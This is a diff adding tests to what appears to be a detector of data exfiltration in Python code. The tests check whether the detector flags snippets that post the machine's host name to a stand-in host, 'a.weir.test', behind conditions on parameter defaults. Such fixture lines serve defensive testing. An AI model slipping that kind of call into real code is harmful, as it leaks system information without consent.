@@ -43,3 +43,28 @@ describe('what the other way of a fork left', () => {
     expect(sent(`import socket, requests\nx = socket.gethostname()\nx = "a"\n${POST}`)).toBe(0);
   });
 });
+
+describe('the default of a parameter is what nobody has to give', () => {
+  const conditions: readonly (readonly [string, string])[] = [
+    ['a="", b=""', 'not a and b'],
+    ['a="read"', 'a == "send"'],
+    ['a="read"', 'a != "read"'],
+    ['a=0', 'a'],
+    ['a=0', 'a > 3'],
+    ['a=()', 'a'],
+    ['a={}', 'a'],
+    ['a=""', 'len(a) > 8'],
+    ['a="read"', 'a in ("send", "post")'],
+    ['*, a=False', 'a'],
+    ['*, a="read"', 'a == "send"'],
+  ];
+  test.each(conditions)('def f(%s): if %s', (parameters, condition) => {
+    const body = `  if ${condition}:\n    requests.post("https://a.weir.test", data=socket.gethostname())\n`;
+    expect(sent(`import socket, requests\ndef f(${parameters}):\n${body}`)).toBe(LABEL.host);
+  });
+
+  test('unless a call leaves it as it is', () => {
+    const source = 'import requests\ndef f(a=""):\n  if a:\n    requests.post("https://a.weir.test", data=a)\nf()\n';
+    expect(sent(source)).toBe(undefined);
+  });
+});
